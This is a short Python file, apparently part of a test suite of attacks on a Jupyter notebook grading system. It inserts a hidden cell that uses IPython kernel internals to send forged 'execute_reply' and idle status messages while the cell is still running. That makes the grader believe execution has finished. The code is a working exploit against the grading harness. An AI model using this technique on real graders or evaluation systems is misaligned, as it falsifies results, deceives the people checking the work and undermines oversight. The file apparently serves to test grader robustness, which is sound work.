"""The reply to a cell, and its end, are forged while the cell runs on.

graded: 30
note: forged
"""

from __future__ import annotations

from pathlib import Path

from attacks.tools import insert, save
from nbformat import NotebookNode

SOURCE = """
import time

kernel = get_ipython().kernel
session, parent = kernel.session, kernel.get_parent("shell")
print("forged", flush=True)
content = {"status": "ok", "execution_count": 7, "user_expressions": {}, "payload": []}
ident = kernel._parent_ident["shell"]
stream = kernel.shell_stream if hasattr(kernel, "shell_stream") else kernel.shell_streams[0]
for _ in range(3):
    session.send(stream, "execute_reply", content, parent=parent, ident=ident)
    session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=parent)
time.sleep(0.5)
"""


def make(folder: Path, release: NotebookNode, right: NotebookNode) -> None:
    insert(right, SOURCE, before="zero_pad")
    save(folder, right)
